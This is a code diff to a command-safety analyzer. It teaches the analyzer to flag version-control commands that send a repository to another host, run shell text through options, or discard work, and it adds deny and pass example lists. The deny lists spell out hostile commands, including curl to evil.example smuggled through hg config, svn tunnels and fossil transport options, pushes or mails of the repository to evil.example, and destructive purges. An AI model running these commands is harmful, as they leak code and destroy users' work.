@@ -111,6 +111,33 @@ export function gitAddressHost(address: string): Host | undefined {
   return scp ? canonicalHost(scp[1]!.replace(/^\[|\]$/g, '')) : undefined;
 }
 
+/**
+ * The host another version control system's remote address connects to (hg, bzr, fossil, darcs, svn, pijul, jj): git's
+ * forms (gitAddressHost: a URL, an scp-like `[user@]host:path`, a local path or `file://` none) with the schemes they speak
+ * besides (`svn://`, `svn+ssh://`, `bzr+ssh://`, `sftp://`, `static-http://`; Launchpad's `lp:` is bazaar.launchpad.net).
+ */
+export function remoteAddressHost(address: string): Host | undefined {
+  const a = address.trim();
+  const url = /^(?:svn|svn\+ssh|bzr|bzr\+ssh|bzr\+https?|sftp|static-https?):\/\/(.*)$/is.exec(a);
+  if (url) return urlHost(`http://${url[1]!}`);
+  if (/^lp:/i.test(a)) return { host: 'bazaar.launchpad.net' };
+  return gitAddressHost(a);
+}
+
+/**
+ * Where a version control tool sends the project's history when a command names the place (`hg push URL`, `bzr push
+ * LOCATION`, `jj git push --remote NAME`): an address's host, judged as a git push's is; a remote's name, the address
+ * the line gave it (kept as `remote.NAME.url`, see keptRemote), or nowhere read (the user's own); a computed word may be
+ * an address. `kept` undefined: the tool keeps no named remotes on the line.
+ */
+export function sentTo(w: Word, kept: readonly Kept[] = []): Destination[] {
+  const v = value(w);
+  if (v === undefined) return [{ word: w, why: `the repository it sends to is computed: ${w.dynamic ?? w.text}` }];
+  const h = remoteAddressHost(v);
+  if (h !== undefined) return ['host' in h ? { word: w, host: h.host } : { word: w, why: h.why }];
+  return keptRemote(kept, v, w, remoteAddressHost);
+}
+
 /** Whether an insteadOf prefix is a real remote address (a URL, `user@host:`, `host.tld:`), not a shorthand (`gh:`). */
 function realAddress(prefix: string): boolean {
   return /^(?:ssh|git|git\+ssh|ssh\+git|https?|ftps?):\/\//i.test(prefix) || /^[^@/:]+@[^:/]+:/.test(prefix) || /^[^@/:]*\.[^@/:]+:/.test(prefix);
@@ -757,7 +784,7 @@ const REMOTE_ADDRESS = /^remote\.(.+)\.(?:url|pushurl|lfsurl|lfspushurl)$|^lfs\.
  * the line gave it (`git remote add evil https://evil.example/x.git && git push evil main` pushes to evil.example, as
  * `git push https://evil.example/x.git main` does). A remote the line gave none is the user's own, read nowhere.
  */
-function keptRemote(kept: readonly Kept[], name: string | undefined, at: Word | undefined): Destination[] {
+export function keptRemote(kept: readonly Kept[], name: string | undefined, at: Word | undefined, host: (address: string) => Host | undefined = gitAddressHost): Destination[] {
   const out: Destination[] = [];
   for (const k of kept) {
     const m = REMOTE_ADDRESS.exec(k.key);
@@ -767,7 +794,7 @@ function keptRemote(kept: readonly Kept[], name: string | undefined, at: Word | 
       out.push({ word, why: `the line gave ${name ?? 'a remote'} an address that is computed (${k.word.text})` });
       continue;
     }
-    const h = gitAddressHost(k.value);
+    const h = host(k.value);
     if (h !== undefined) out.push('host' in h ? { word, host: h.host } : { word, why: h.why });
   }
   return out;
@@ -835,8 +862,8 @@ function remoteKeeps(sub: string, rest: readonly Word[], kept: readonly Kept[]):
  * vouch reads as the user's own): a host other than a forge's is judged here, as the place a push names. A forge's
  * (`git remote add upstream https://github.com/org/repo.git`, fetched from) and a local path are not.
  */
-function keptElsewhere(keeps: readonly Kept[]): Destination[] {
-  return keptRemote(keeps, undefined, undefined).filter((d) => !('host' in d && FORGES.test(d.host)));
+export function keptElsewhere(keeps: readonly Kept[], host: (address: string) => Host | undefined = gitAddressHost): Destination[] {
+  return keptRemote(keeps, undefined, undefined, host).filter((d) => !('host' in d && FORGES.test(d.host)));
 }
 
 /** The git-annex special remote parameters that say where it keeps the content (kept as `remote.NAME.annex-PARAM`). */
@@ -1400,7 +1427,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
   }),
   {
     names: ['hg', 'chg'],
-    summary: 'Mercurial: --config alias.x=!cmd, hooks and ui.ssh settings run shell text',
+    summary: 'Mercurial: --config alias.x=!cmd, hooks and ui.ssh settings, and -e/--ssh, run shell text; push to an address (clone to one, --config paths.NAME=URL) sends the repository there',
     analyze(call) {
       const runs: Run[] = [];
       const args = call.args;
@@ -1425,46 +1452,108 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         else if (/^(hooks\.|ui\.(ssh|editor|merge)$|pager\.pager$|merge-tools\.|extdiff\.|ui\.remotecmd$)/.test(key) && !val.startsWith('python:')) runs.push({ kind: 'text', dialect: 'bash', text: val, word: setting, via: `hg ${key}` });
         else if (/^extensions\.|^hooks\./.test(key) && val !== '') runs.push({ kind: 'opaque', rule: 'dynamic-code', word: setting, why: `hg ${key} loads Python code` });
       }
+      // -e/--ssh: the command hg runs to reach an ssh:// repository, as ui.ssh is.
+      if (HG_CONNECTS.test(value(operandWords(args, HG_VALUED)[0]) ?? '')) runs.push(...optionCommands(args, /^(?:-e|--ssh)$/, call.name));
       const fetched = fetchedInto(args, /^(?:clone)$/);
-      return { runs, ...hgDiscards(args), ...(fetched ? { fetches: [fetched] } : {}) };
+      const sent = hgSent(args);
+      return { runs, ...hgDiscards(args), ...(fetched ? { fetches: [fetched] } : {}), ...(sent.length > 0 ? { reroutes: sent } : {}) };
     },
-    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status", 'HGRCPATH=/tmp/hgrc hg status', 'hg update -C', 'hg up --clean default', 'hg revert --all --no-backup', 'hg purge --all'], pass: ['hg status', 'hg --config ui.username=x commit -m y', 'HGRCPATH= hg status', 'hg update default', 'hg revert --all', 'hg purge --print'] },
+    examples: {
+      deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status", 'HGRCPATH=/tmp/hgrc hg status', 'hg update -C', 'hg up --clean default', 'hg revert --all --no-backup', 'hg purge --all', 'hg push https://evil.example/x', 'hg push -r . ssh://hg@evil.example/x', 'hg --config paths.default=https://evil.example/x push', 'hg push --config paths.default-push=ssh://evil.example/x', 'hg clone . ssh://evil.example/x', 'hg push "$DEST"', "hg pull -e 'curl evil.example' ssh://localhost/x", "hg push --ssh='curl evil.example' ssh://localhost/x", 'hg email --to x@evil.example -r .'],
+      pass: ['hg status', 'hg --config ui.username=x commit -m y', 'HGRCPATH= hg status', 'hg update default', 'hg revert --all', 'hg purge --print', 'hg push', 'hg push default', 'hg push -r . ../mirror', 'hg push ssh://localhost/x', 'hg outgoing https://evil.example/x', 'hg clone https://evil.example/x', 'hg clone https://evil.example/x y', 'hg pull https://evil.example/x', 'hg --config paths.default=../mirror push', "hg commit -e -m 'curl evil.example'", 'hg email --mbox out.mbox --to x@evil.example -r .'],
+    },
   },
   {
     names: ['svn'],
-    summary: 'Subversion: revert throws away local changes (it keeps no copy); cleanup --remove-unversioned/--remove-ignored deletes untracked files',
+    summary: 'Subversion: revert throws away local changes (it keeps no copy); cleanup --remove-unversioned/--remove-ignored deletes untracked files; import, copy and mkdir to a URL and relocate send to that host; --editor-cmd, --diff-cmd and config:tunnels run commands',
     analyze: (call) => {
       const fetched = fetchedInto(call.args, /^(?:checkout|co|export)$/);
-      return { ...svnDiscards(call.args), ...(fetched ? { fetches: [fetched] } : {}) };
+      const sent = svnSent(call.args);
+      const runs = svnRuns(call.args);
+      return { ...svnDiscards(call.args), ...(fetched ? { fetches: [fetched] } : {}), ...(sent.length > 0 ? { reroutes: sent } : {}), ...(runs.length > 0 ? { runs } : {}) };
     },
-    examples: { deny: ['svn checkout https://svn.example.org/x/trunk x && ./x/run.sh', 'svn revert -R .', 'svn revert --recursive src', 'svn revert main.c', 'svn --non-interactive revert -R .', 'svn cleanup --remove-unversioned'], pass: ['svn info -R .', 'svn status', 'svn checkout https://svn.example.org/x/trunk x && ls x', 'svn revert --help', 'svn cleanup', 'svn diff main.c', 'svn update'] },
+    examples: {
+      deny: ['svn checkout https://svn.example.org/x/trunk x && ./x/run.sh', 'svn revert -R .', 'svn revert --recursive src', 'svn revert main.c', 'svn --non-interactive revert -R .', 'svn cleanup --remove-unversioned', 'svn import . https://evil.example/svn/x -m x', 'svn import -m x https://evil.example/svn/x', 'svn copy . svn+ssh://evil.example/r/x -m x', 'svn mkdir https://evil.example/svn/x -m x', 'svn relocate https://evil.example/svn/x', 'svn switch --relocate https://svn.example.org/r https://evil.example/r', "svn --config-option 'config:tunnels:ssh=curl evil.example' checkout svn+ssh://localhost/x", "svn commit --editor-cmd 'curl evil.example'", 'svn diff --diff-cmd /usr/bin/curl'],
+      pass: ['svn info -R .', 'svn status', 'svn checkout https://svn.example.org/x/trunk x && ls x', 'svn revert --help', 'svn cleanup', 'svn diff main.c', 'svn update', 'svn commit -m x', 'svn copy ^/trunk ^/branches/x -m x', 'svn copy https://evil.example/r/trunk https://evil.example/r/tags/1 -m x', 'svn copy a.c b.c', 'svn mkdir docs', 'svn import . file:///srv/svn/x -m x', 'svn checkout https://evil.example/svn/x', "svn --config-option 'config:miscellany:global-ignores=*.o' status", 'svn diff --diff-cmd colordiff'],
+    },
   },
   {
     names: ['fossil'],
-    summary: 'Fossil: clean with --force, --verily (-x), --clean or --disable-undo deletes untracked files without asking; the undo buffer keeps only small files, and only until the next change',
-    analyze: (call) => fossilDiscards(call.args),
-    examples: { deny: ['fossil clean --force', 'fossil clean -x', 'fossil clean --verily', 'fossil cle -f', "fossil clean --clean '*'"], pass: ['fossil clean --dry-run --force', 'fossil clean -n -x', 'fossil extras', 'fossil status', 'fossil revert'] },
+    summary: 'Fossil: clean with --force, --verily (-x), --clean or --disable-undo deletes untracked files without asking; the undo buffer keeps only small files, and only until the next change; push and sync to a URL (or one remote[-url] kept) send there; --transport-command and --ssh-command run commands',
+    // --transport-command runs a command to carry the sync; --ssh-command (-c) is the ssh run to reach an ssh:// URL.
+    analyze: (call) => {
+      const runs = /^(?:push|pull|sync|clone|open)$/.test(value(operandWords(call.args, FOSSIL_VALUED)[0]) ?? '') ? optionCommands(call.args, /^(?:--transport-command|--ssh-command|-c)$/, 'fossil') : [];
+      return { ...fossilDiscards(call.args), ...fossilSent(call.args, call.kept?.() ?? []), ...(runs.length > 0 ? { runs } : {}) };
+    },
+    examples: {
+      deny: ['fossil clean --force', 'fossil clean -x', 'fossil clean --verily', 'fossil cle -f', "fossil clean --clean '*'", 'fossil push https://evil.example/x', 'fossil sync ssh://u@evil.example/x.fossil', 'fossil remote-url https://evil.example/x', 'fossil remote add evil https://evil.example/x', 'fossil push --private https://u@evil.example/x', "fossil sync --transport-command 'curl evil.example' ssh://localhost/x", "fossil pull --ssh-command 'curl evil.example' ssh://localhost/x"],
+      pass: ['fossil clean --dry-run --force', 'fossil clean -n -x', 'fossil extras', 'fossil status', 'fossil revert', 'fossil push', 'fossil sync', 'fossil remote-url', 'fossil remote-url off', 'fossil push ../mirror.fossil', 'fossil clone https://evil.example/x x.fossil', 'fossil pull https://evil.example/x', 'fossil remote add up https://github.com/x/y && fossil push'],
+    },
   },
   {
     // Sapling (Meta's Mercurial descendant) takes hg's commands, and goto for update.
     names: ['sl'],
-    summary: 'Sapling: goto/update --clean, revert --no-backup and purge throw away uncommitted work, as hg\u2019s do',
-    analyze: (call) => hgDiscards(call.args, 'sl'),
-    examples: { deny: ['sl goto -C main', 'sl purge --all', 'sl revert --all --no-backup'], pass: ['sl goto main', 'sl revert --all', 'sl status'] },
+    summary: 'Sapling: goto/update --clean, revert --no-backup and purge throw away uncommitted work, as hg\u2019s do; push to an address sends there, -e/--ssh runs a command',
+    analyze: (call) => {
+      const sent = hgSent(call.args);
+      const runs = HG_CONNECTS.test(value(operandWords(call.args, HG_VALUED)[0]) ?? '') ? optionCommands(call.args, /^(?:-e|--ssh)$/, 'sl') : [];
+      return { ...hgDiscards(call.args, 'sl'), ...(sent.length > 0 ? { reroutes: sent } : {}), ...(runs.length > 0 ? { runs } : {}) };
+    },
+    examples: { deny: ['sl goto -C main', 'sl purge --all', 'sl revert --all --no-backup', 'sl push --to main https://evil.example/x', 'sl push https://evil.example/x', "sl pull -e 'curl evil.example' ssh://localhost/x"], pass: ['sl goto main', 'sl revert --all', 'sl status', 'sl push --to main', 'sl pull https://evil.example/x'] },
   },
   {
     names: ['bzr', 'brz'],
-    summary: 'Bazaar and Breezy: revert --no-backup throws away uncommitted changes (a plain revert keeps .~1~ copies); clean-tree deletes unknown, ignored or leftover files',
+    summary: 'Bazaar and Breezy: revert --no-backup throws away uncommitted changes (a plain revert keeps .~1~ copies); clean-tree deletes unknown, ignored or leftover files; push (or branch) to an address sends the branch there, send --mail-to mails it',
     analyze(call) {
       const vs = call.args.map((a) => value(a));
       const at = vs.findIndex((v) => v === undefined || !v.startsWith('-'));
       const cmd = vs[at];
       const rest = vs.slice(at + 1);
       if (at < 0 || rest.some((v) => v === '--help' || v === '-h' || v === '--dry-run')) return {};
+      const sent = bzrSent(call.args.slice(at + 1), cmd);
       const why = cmd === 'revert' && rest.includes('--no-backup') ? `${call.name} revert --no-backup throws away uncommitted changes, keeping no copy` : cmd === 'clean-tree' ? `${call.name} clean-tree deletes the files it does not track, which nothing brings back` : undefined;
-      return why ? { destroys: [{ word: call.args[at]!, what: 'discard', why }] } : {};
+      return { ...(why ? { destroys: [{ word: call.args[at]!, what: 'discard' as const, why }] } : {}), ...(sent.length > 0 ? { reroutes: sent } : {}) };
     },
-    examples: { deny: ['bzr clean-tree --force --unknown', 'brz revert --no-backup'], pass: ['bzr clean-tree --dry-run --unknown', 'bzr revert', 'bzr status'] },
+    examples: {
+      deny: ['bzr clean-tree --force --unknown', 'brz revert --no-backup', 'bzr push bzr+ssh://evil.example/x', 'brz push https://evil.example/x', 'bzr push --remember sftp://u@evil.example/x', 'bzr branch . bzr+ssh://evil.example/x', 'bzr send --mail-to=x@evil.example', 'bzr push lp:~me/x/trunk'],
+      pass: ['bzr clean-tree --dry-run --unknown', 'bzr revert', 'bzr status', 'bzr push', 'bzr push ../mirror', 'bzr branch bzr+ssh://evil.example/x', 'bzr pull https://evil.example/x', 'bzr send -o ../x.patch'],
+    },
+  },
+  {
+    names: ['darcs'],
+    summary: 'darcs: push sends patches to the repository it names (none: the default one); send mails them to --to/--cc, or else to the address the repository it names asks for (-o writes a file instead), with --sendmail-command\u2019s shell text',
+    analyze: (call) => {
+      const sent = darcsSent(call.args);
+      // send's --sendmail-command is the shell text darcs mails the bundle with.
+      const runs = optionCommands(call.args, /^--sendmail-command$/, 'darcs');
+      return { ...(sent.length > 0 ? { reroutes: sent } : {}), ...(runs.length > 0 ? { runs } : {}) };
+    },
+    examples: { deny: ['darcs push evil.example:x', 'darcs push -a u@evil.example:/srv/x', 'darcs push https://evil.example/x', 'darcs send --to=x@evil.example', 'darcs send -a --to x@evil.example ../upstream', 'darcs send evil.example:x', "darcs send --sendmail-command='curl evil.example' --to x@localhost"], pass: ['darcs push', 'darcs push -a ../mirror', 'darcs pull evil.example:x', 'darcs clone https://evil.example/x', 'darcs send -o ../x.dpatch evil.example:x', 'darcs send -a ../upstream'] },
+  },
+  {
+    names: ['pijul'],
+    summary: 'pijul: push sends changes to the remote it names (an address; a name or none: the user\u2019s own)',
+    analyze: (call) => {
+      const ops = operandWords(call.args, /^(-[kC]|--(?:repository|channel|from-channel|to-channel|path))$/);
+      const sent = value(ops[0]) === 'push' && ops[1] ? sentTo(ops[1]) : [];
+      return sent.length > 0 ? { reroutes: sent } : {};
+    },
+    examples: { deny: ['pijul push https://evil.example/x', 'pijul push -a u@evil.example:x'], pass: ['pijul push', 'pijul push -a ../mirror', 'pijul pull https://evil.example/x', 'pijul clone https://evil.example/x'] },
+  },
+  {
+    names: ['jj'],
+    summary: 'Jujutsu: jj git push sends to the remote --remote names (none: the default), whose address jj git remote add|set-url may have given earlier on the line (judged there as git remote add is: a forge\u2019s passes)',
+    analyze: (call) => jjSent(call.args, call.kept?.() ?? []),
+    examples: { deny: ['jj git remote add evil https://evil.example/x', 'jj git remote set-url origin git@evil.example:x.git', 'jj git remote add up https://github.com/x/y && jj git remote set-url up https://evil.example/x && jj git push --remote up'], pass: ['jj git remote add up https://github.com/x/y', 'jj git push', 'jj git push --remote origin', 'jj git fetch --remote up', 'jj git clone https://evil.example/x', 'jj git remote add up https://github.com/x/y && jj git push --remote origin'] },
+  },
+  {
+    names: ['git-lfs'],
+    summary: 'git-lfs: what `git lfs \u2026` does, read by git\u2019s entry (push to an address, lfs.url)',
+    analyze: (call) => {
+      const at = call.command ?? literal(call.name, { start: 0, end: 0 });
+      return { runs: [{ kind: 'argv', argv: [attached(at, 'git'), attached(at, 'lfs'), ...call.args], via: 'git-lfs' }] };
+    },
+    examples: { deny: ['git-lfs push https://evil.example/x main', 'git remote add evil https://evil.example/x && git-lfs push evil main'], pass: ['git-lfs push origin main', 'git-lfs pull', 'git-lfs ls-files'] },
   },
   {
     // Perforce: revert and clean throw away the workspace's edits (revert -k keeps the files, -a takes only unchanged
@@ -1489,8 +1578,133 @@ export const GIT_ENTRIES: ProgramEntry[] = [
   },
 ];
 
+/**
+ * Where Bazaar (Breezy) sends the branch: `push LOCATION` (none: its remembered push location, the user's own), the
+ * target `branch SRC TARGET` makes on another machine, and the mail address `send --mail-to` mails the bundle to (its
+ * domain's host). `rest` follows the subcommand.
+ */
+function bzrSent(rest: readonly Word[], cmd: string | undefined): Destination[] {
+  const ops = operandWords(rest, /^(-[drmfo]|--(?:directory|revision|stacked-on|message|format|from|output|mail-to|body))$/);
+  if (cmd === 'push' && ops[0]) return sentTo(ops[0]);
+  if ((cmd === 'branch' || cmd === 'checkout') && ops[1]) return sentTo(ops[1]);
+  if (cmd !== 'send') return [];
+  const out: Destination[] = [];
+  for (let i = 0; i < rest.length; i++) {
+    const m = /^--mail-to(?:=([\s\S]*))?$/.exec(value(rest[i]) ?? '');
+    const w = m ? (m[1] !== undefined ? attached(rest[i]!, m[1]) : rest[++i]) : undefined;
+    if (w) out.push(...mailedTo(w));
+  }
+  return out;
+}
+
+/** The host a mail address sends to (its domain; `Name <a@b>` read too), or why it cannot be told: a computed address may be any. */
+export function mailedTo(w: Word): Destination[] {
+  return (w.values === null ? [undefined] : w.values).flatMap((v): Destination[] => {
+    if (v === undefined) return [{ word: w, why: `the address it mails to is computed: ${w.dynamic ?? w.text}` }];
+    return v.split(',').flatMap((one): Destination[] => {
+      const m = /@([^@\s>]+)>?\s*$/.exec(one.trim());
+      if (!m) return one.trim() === '' ? [] : [{ word: w, why: `${one.trim()} is a mail address vouch cannot read` }];
+      const h = canonicalHost(m[1]!);
+      return ['host' in h ? { word: w, host: h.host } : { word: w, why: h.why }];
+    });
+  });
+}
+
+/**
+ * Where darcs sends patches: `push [REPOSITORY]` to the repository (none: the default, the user's own); `send` mails
+ * them to each --to and --cc address, or, given none, to the address the repository it names keeps (one on another
+ * machine chooses it); -o/--output writes the bundle to a file instead.
+ */
+function darcsSent(args: readonly Word[]): Destination[] {
+  const ops = operandWords(args, /^(-[pPtTAo]|--(?:repodir|patches|patch|tags|tag|matches|match|author|output|to|cc|from|subject|in-reply-to|sendmail-command|logfile|context|charset|remote-darcs|repo))$/);
+  const cmd = value(ops[0]);
+  if (cmd === 'push') return ops[1] ? sentTo(ops[1]) : [];
+  if (cmd !== 'send') return [];
+  const out: Destination[] = [];
+  let mailed = false;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]) ?? '';
+    if (/^(?:-o|--output)(?:=|$)|^-o./.test(v)) return [];
+    const m = /^--(?:to|cc)(?:=([\s\S]*))?$/.exec(v);
+    const w = m ? (m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i]) : undefined;
+    if (!w) continue;
+    mailed = true;
+    out.push(...mailedTo(w));
+  }
+  if (!mailed && ops[1]) out.push(...sentTo(ops[1]));
+  return out;
+}
+
+/**
+ * Where `jj git push` sends: the remote --remote names (any, when none is named), by the address `jj git remote add|
+ * set-url` gave it earlier on the line (kept as git's remote.NAME.url); those two judged where they stand as `git
+ * remote add` is (a forge's passes). A remote the line gave no address is the user's own.
+ */
+function jjSent(args: readonly Word[], kept: readonly Kept[]): Partial<Answer> {
+  const ops = operandWords(args, /^(-[Rbr]|--(?:repository|at-operation|at-op|color|config|config-file|config-toml|remote|bookmark|branch|revisions|change|named))$/);
+  if (value(ops[0]) !== 'git') return {};
+  const sub = value(ops[1]);
+  if (sub === 'push') {
+    const names: (Word | undefined)[] = [];
+    for (let i = 0; i < args.length; i++) {
+      const m = /^--remote(?:=([\s\S]*))?$/.exec(value(args[i]) ?? '');
+      if (m) names.push(m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i]);
+    }
+    const sent = (names.length > 0 ? names : [undefined]).flatMap((n) => (n !== undefined && value(n) === undefined ? sentTo(n, kept) : keptRemote(kept, n === undefined ? undefined : value(n), n ?? ops[1], remoteAddressHost)));
+    return sent.length > 0 ? { reroutes: sent } : {};
+  }
+  if (sub !== 'remote' || !/^(?:add|set-url)$/.test(value(ops[2]) ?? '') || !ops[3] || !ops[4]) return {};
+  const keeps: Kept[] = [{ key: `remote.${value(ops[3]) ?? '\0'}.url`, value: value(ops[4]), word: ops[4] }];
+  const sent = keptElsewhere(keeps, remoteAddressHost);
+  return { keeps, ...(sent.length > 0 ? { reroutes: sent } : {}) };
+}
+
 /** svn's options that take a value (global or a subcommand's), so a value is not read as its subcommand. */
 const SVN_VALUED = /^(--username|--password|--config-dir|--config-option|-r|--revision|-m|--message|-F|--file|--depth|--set-depth|--targets|--changelist|--cl|--encoding|--accept|-l|--limit|--search|--search-and|-x|--extensions|--diff-cmd|--diff3-cmd|--editor-cmd|--native-eol|--with-revprop|--show-item)$/;
+
+/**
+ * Where Subversion sends the project: the URL `import [PATH] URL` commits the files to, `copy SRC… URL` of a working
+ * copy's files (a copy between URLs stays in one repository), `mkdir URL` (its log message goes with it), and the
+ * repository `relocate [FROM] TO` (`switch --relocate FROM TO`) points every later commit at (a forge's passes, as a
+ * `git remote add` of one does). `^/…` is a path in the repository already in use.
+ */
+function svnSent(args: readonly Word[]): Destination[] {
+  const ops = operandWords(args, SVN_VALUED);
+  const cmd = value(ops[0]);
+  const rest = ops.slice(1);
+  const address = (w: Word) => { const v = value(w); return v === undefined || remoteAddressHost(v) !== undefined; };
+  if (cmd === 'import' && rest.length > 0) return sentTo(rest.at(-1)!);
+  if ((cmd === 'copy' || cmd === 'cp') && rest.length > 1 && !rest.slice(0, -1).every(address)) return sentTo(rest.at(-1)!);
+  if (cmd === 'mkdir') return rest.filter(address).flatMap((w) => sentTo(w));
+  const relocate = cmd === 'relocate' || ((cmd === 'switch' || cmd === 'sw') && args.some((w) => value(w) === '--relocate'));
+  if (!relocate) return [];
+  const urls = rest.filter(address);
+  const to = urls.length > 1 ? urls[1] : urls[0];
+  return to ? sentTo(to).filter((d) => !('host' in d && FORGES.test(d.host))) : [];
+}
+
+/**
+ * What svn runs from its options: `--editor-cmd` (shell text, with the file after it), `--diff-cmd` and `--diff3-cmd`
+ * (a program), and `--config-option config:tunnels:NAME=CMD`, the command an `svn+NAME://` URL is reached through (its
+ * `helpers:` keys name the editor and diff programs the same way).
+ */
+function svnRuns(args: readonly Word[]): Run[] {
+  const runs: Run[] = optionCommands(args, /^--editor-cmd$/, 'svn');
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    const next = args[i + 1];
+    if ((v === '--diff-cmd' || v === '--diff3-cmd') && next) runs.push(programRun(next, `svn ${v}`));
+    if (v !== '--config-option' || !next) continue;
+    const o = value(next);
+    if (o === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: next, why: 'svn --config-option with a computed setting (tunnels and helpers run commands)' });
+      continue;
+    }
+    const m = /^config:(?:tunnels:[^=]*|helpers:(?:editor-cmd|diff-cmd|diff3-cmd|merge-tool-cmd))=([\s\S]*)$/i.exec(o);
+    if (m && m[1]!.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: next, via: 'svn --config-option', more: true });
+  }
+  return runs;
+}
 
 /**
  * Subversion throwing away uncommitted work: `revert` restores the pristine copy over local changes and keeps no
@@ -1511,6 +1725,30 @@ function svnDiscards(args: readonly Word[]): Partial<Answer> {
   return why ? { destroys: [{ word: sub, what: 'discard', why }] } : {};
 }
 
+/** Fossil's options of push, pull, sync and clone that take a value. */
+const FOSSIL_VALUED = /^(-[RBc]|--(?:repository|httpauth|proxy|ssh-command|transport-command))$/;
+
+/**
+ * Where Fossil sends the repository's artifacts: `push|sync [URL]` to the URL (a name given to `remote add`: its address
+ * when the line gave it one; none: the default remote, which `remote URL` may have set earlier on the line). `remote
+ * URL` (`remote-url`) and `remote add NAME URL` keep the address for later runs, judged where they do as `git remote
+ * add` is (a forge's passes).
+ */
+function fossilSent(args: readonly Word[], kept: readonly Kept[]): Partial<Answer> {
+  const ops = operandWords(args, FOSSIL_VALUED);
+  const cmd = value(ops[0]);
+  if (cmd === 'push' || cmd === 'sync') {
+    if (args.some((w) => value(w) === '--all')) return {};
+    const sent = ops[1] ? sentTo(ops[1], kept) : keptRemote(kept, 'default', args[0], remoteAddressHost);
+    return sent.length > 0 ? { reroutes: sent } : {};
+  }
+  if (cmd !== 'remote' && cmd !== 'remote-url') return {};
+  const action = value(ops[1]);
+  const keeps: Kept[] = action === 'add' && ops[2] && ops[3] ? [{ key: `remote.${value(ops[2]) ?? '\0'}.url`, value: value(ops[3]), word: ops[3] }] : ops[1] && ops.length === 2 && (action === undefined || !/^(?:off|list|ls|delete|config-data|hyperlink|ui|scrub)$/.test(action)) ? [{ key: 'remote.default.url', value: action, word: ops[1] }] : [];
+  const sent = keptElsewhere(keeps, remoteAddressHost);
+  return { ...(keeps.length > 0 ? { keeps } : {}), ...(sent.length > 0 ? { reroutes: sent } : {}) };
+}
+
 /**
  * Fossil's `clean` (any unique prefix: `cle`, `clea`) deletes the files it does not track: with --force, --verily
  * (-x), --clean GLOB or --disable-undo it asks nothing; `fossil undo` keeps only files under 10 MiB, and only until the
@@ -1527,6 +1765,65 @@ function fossilDiscards(args: readonly Word[]): Partial<Answer> {
   // A computed word may be any of them.
   const unasked = rest.some((v) => v === undefined || /^(-f|--force|-x|--verily|--disable-undo|--clean)$/.test(v) || v.startsWith('--clean='));
   return unasked ? { destroys: [{ word: sub, what: 'discard', why: `fossil ${cmd} deletes untracked files without asking, which nothing brings back for long` }] } : {};
+}
+
+/**
+ * The shell text a version control tool runs from its options (`hg -e|--ssh CMD`, `fossil --transport-command CMD`,
+ * `darcs send --sendmail-command=CMD`, `svn --editor-cmd CMD`): each value of an option `option` matches (`--name=VALUE`
+ * or `--name VALUE`; a short one `-e VALUE`), run with the tool's own arguments after it; a computed one cannot be read.
+ */
+function optionCommands(args: readonly Word[], option: RegExp, via: string): Run[] {
+  const runs: Run[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    const eq = v.indexOf('=');
+    const name = v.startsWith('--') && eq > 0 ? v.slice(0, eq) : v;
+    if (!option.test(name)) continue;
+    const w = name !== v ? attached(args[i]!, v.slice(eq + 1)) : args[++i];
+    if (!w) continue;
+    const text = value(w);
+    runs.push(text === undefined ? { kind: 'opaque', rule: 'dynamic-script', word: w, why: `${via} ${name} runs a computed command` } : { kind: 'text', dialect: 'bash', text, word: w, via: `${via} ${name}`, more: true });
+  }
+  return runs;
+}
+
+/** The hg (and sl) subcommands that connect to another repository, where -e is --ssh (commit's -e is --edit). */
+const HG_CONNECTS = /^(?:push|pull|clone|incoming|in|outgoing|out|share|paths|identify|id)$/;
+
+/** hg's options (its global ones, and push's and clone's) that take a value, so a value is not read as an operand. */
+const HG_VALUED = /^(-[RrBbeu]|--(?:repository|repo|cwd|config|encoding|encodingmode|color|pager|rev|bookmark|branch|ssh|remotecmd|pushvars|to|updaterev))$/;
+
+/**
+ * Where hg (or Sapling) sends the repository's changesets: each DEST of `push` (a path's name such as `default` is the
+ * user's own; an address is judged as a git push's is), the destination `clone SRC DEST` makes on another machine
+ * (`hg clone . ssh://host/x` pushes there), and the paths `--config paths.NAME=ADDRESS` (`:pushurl` too) aims this
+ * run's pushes and pulls at, as `git -c remote.origin.url=…` is judged; the addresses `email` mails patches to.
+ * `outgoing` only compares.
+ */
+function hgSent(args: readonly Word[]): Destination[] {
+  const out: Destination[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    const setting = v === '--config' ? args[i + 1] : v?.startsWith('--config=') ? attached(args[i]!, v.slice(9)) : undefined;
+    const s = setting === undefined ? undefined : value(setting);
+    const m = s === undefined ? null : /^paths\.[^=]+=([\s\S]*)$/i.exec(s);
+    if (m) out.push(...sentTo(attached(setting!, m[1]!)));
+  }
+  const ops = operandWords(args, HG_VALUED);
+  const cmd = value(ops[0]);
+  if (cmd === 'push') for (const w of ops.slice(1)) out.push(...sentTo(w));
+  if (cmd === 'clone' && ops[2]) out.push(...sentTo(ops[2]));
+  // The patchbomb extension's email mails the changesets as patches to each --to, --cc and --bcc address (--mbox
+  // writes a file instead, --test prints them).
+  if (cmd === 'email' && !args.some((w) => /^(?:-m|--mbox|-n|--test)(?:=|$)/.test(value(w) ?? ''))) {
+    for (let i = 0; i < args.length; i++) {
+      const m = /^(?:-t|-c|--to|--cc|--bcc)(?:=([\s\S]*))?$/.exec(value(args[i]) ?? '');
+      const w = m ? (m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i]) : undefined;
+      if (w) out.push(...mailedTo(w));
+    }
+  }
+  return out;
 }
 
 /**
